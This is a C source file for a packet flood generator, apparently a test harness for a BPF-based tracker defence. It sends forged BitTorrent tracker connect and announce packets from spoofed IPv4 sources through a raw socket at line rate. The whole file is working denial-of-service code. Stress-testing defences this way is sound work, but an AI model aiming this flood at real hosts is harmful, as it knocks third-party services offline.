/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * A flood, as an attacker would send it: connect requests and announces with forged connection IDs,
 * from many spoofed IPv4 sources, as fast as one core can, or RATE packets a second. Past the
 * network stack, into one interface.
 *
 * Usage: flood INTERFACE TO_MAC TO_ADDRESS TO_PORT FROM_ADDRESS SOURCES SECONDS [RATE]
 * Prints the packets sent and the seconds they took, as JSON.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "bpf/wire.h"

enum { BATCH = 64, SECONDS_MAX = 60 };

struct packet {
    struct wire_eth eth;
    struct wire_ipv4 ipv4;
    struct wire_udp udp;
    union {
        struct bep15_request connect;
        struct bep15_announce announce;
    } WIRE_PACKED payload;
} WIRE_PACKED;

struct target {
    uint8_t mac[6];
    uint32_t address, first_source; /* host byte order */
    uint16_t port;
    uint32_t sources;
    double rate; /* packets a second; 0: as fast as can be */
};

static uint64_t random_next(void)
{
    static uint64_t state = 1;
    uint64_t z = state += UINT64_C(0x9e3779b97f4a7c15);

    z = (z ^ z >> 30) * UINT64_C(0xbf58476d1ce4e5b9);
    z = (z ^ z >> 27) * UINT64_C(0x94d049bb133111eb);
    return z ^ z >> 31;
}

static uint16_t ipv4_checksum(const struct wire_ipv4 *ipv4)
{
    uint16_t words[sizeof(*ipv4) / 2];
    uint32_t sum = 0;

    memcpy(words, ipv4, sizeof(words));
    for (unsigned i = 0; i < sizeof(words) / sizeof(words[0]); i++)
        sum += words[i];
    sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t) ~(sum + (sum >> 16));
}

/* Every other packet a connect; returns the length. */
static unsigned fill(struct packet *packet, const struct target *target, uint64_t number)
{
    bool connect = number % 2 == 0;
    unsigned length = connect ? sizeof(packet->payload.connect) : sizeof(packet->payload.announce);
    uint64_t random = random_next();

    memset(packet, 0, sizeof(*packet));
    memcpy(packet->eth.destination, target->mac, 6);
    packet->eth.source[0] = 2;
    packet->eth.ethertype = htons(WIRE_ETHERTYPE_IPV4);
    packet->ipv4.version_ihl = 0x45;
    packet->ipv4.total_length =
        htons((uint16_t)(sizeof(packet->ipv4) + sizeof(packet->udp) + length));
    packet->ipv4.ttl = 64;
    packet->ipv4.protocol = WIRE_IPPROTO_UDP;
    packet->ipv4.source = htonl(target->first_source + (uint32_t)random % target->sources);
    packet->ipv4.destination = htonl(target->address);
    packet->ipv4.checksum = ipv4_checksum(&packet->ipv4);
    packet->udp.source_port = htons((uint16_t)(random >> 32 | 1));
    packet->udp.destination_port = htons(target->port);
    packet->udp.length = htons((uint16_t)(sizeof(packet->udp) + length));
    packet->payload.connect.connection_id =
        connect ? __builtin_bswap64(BEP15_MAGIC) : random_next();
    packet->payload.connect.action = htonl(connect ? BEP15_CONNECT : BEP15_ANNOUNCE);
    packet->payload.connect.transaction_id = (uint32_t)number;
    return (unsigned)offsetof(struct packet, payload) + length;
}

static int open_interface(const char *name)
{
    const int yes = 1;
    struct sockaddr_ll address = {.sll_family = AF_PACKET,
                                  .sll_ifindex = (int)if_nametoindex(name)};
    int sender = socket(AF_PACKET, SOCK_RAW, 0);

    if (sender < 0 || setsockopt(sender, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof(yes)) != 0 ||
        bind(sender, (struct sockaddr *)&address, sizeof(address)) != 0)
        return -1;
    return sender;
}

static double seconds(void)
{
    struct timespec now;

    clock_gettime(CLOCK_MONOTONIC, &now);
    return (double)now.tv_sec + (double)now.tv_nsec * 1e-9;
}

/* Sleeps until so many packets are due. */
static void keep_pace(const struct target *target, double begin, uint64_t sent)
{
    double due = target->rate > 0 ? begin + (double)sent / target->rate - seconds() : 0;

    if (due > 0)
        nanosleep(&(struct timespec){.tv_sec = (time_t)due,
                                     .tv_nsec = (long)((due - (double)(time_t)due) * 1e9)},
                  NULL);
}

static uint64_t flood(int sender, const struct target *target, double begin, double end)
{
    struct packet packets[BATCH];
    struct iovec parts[BATCH];
    struct mmsghdr messages[BATCH] = {0};
    uint64_t sent = 0;

    while (seconds() < end) {
        int taken;

        keep_pace(target, begin, sent);
        for (unsigned i = 0; i < BATCH; i++) {
            parts[i].iov_base = &packets[i];
            parts[i].iov_len = fill(&packets[i], target, sent + i);
            messages[i].msg_hdr.msg_iov = &parts[i];
            messages[i].msg_hdr.msg_iovlen = 1;
        }
        taken = sendmmsg(sender, messages, BATCH, 0);
        if (taken > 0)
            sent += (uint64_t)taken;
        else if (errno != ENOBUFS && errno != EAGAIN)
            break;
    }
    return sent;
}

static bool parse(char **argv, struct target *target, double *duration)
{
    uint8_t *mac = target->mac;
    struct in_addr to, from;

    if (sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
               &mac[4], &mac[5]) != 6 ||
        inet_pton(AF_INET, argv[3], &to) != 1 || inet_pton(AF_INET, argv[5], &from) != 1)
        return false;
    target->address = ntohl(to.s_addr);
    target->port = (uint16_t)atoi(argv[4]);
    target->first_source = ntohl(from.s_addr);
    target->sources = (uint32_t)strtoul(argv[6], NULL, 10);
    *duration = strtod(argv[7], NULL);
    target->rate = argv[8] ? strtod(argv[8], NULL) : 0;
    return target->sources > 0 && *duration > 0 && *duration <= SECONDS_MAX;
}

int main(int argc, char **argv)
{
    struct target target;
    double duration, begin;
    uint64_t sent;
    int sender;

    if ((argc != 8 && argc != 9) || !parse(argv, &target, &duration)) {
        fprintf(stderr,
                "usage: flood INTERFACE TO_MAC TO_ADDRESS TO_PORT FROM_ADDRESS SOURCES "
                "SECONDS (at most %d) [RATE]\n",
                SECONDS_MAX);
        return 2;
    }
    sender = open_interface(argv[1]);
    if (sender < 0) {
        perror(argv[1]);
        return 1;
    }
    begin = seconds();
    sent = flood(sender, &target, begin, begin + duration);
    printf("{\"sent\": %llu, \"seconds\": %.3f}\n", (unsigned long long)sent, seconds() - begin);
    return sent > 0 ? 0 : 1;
}
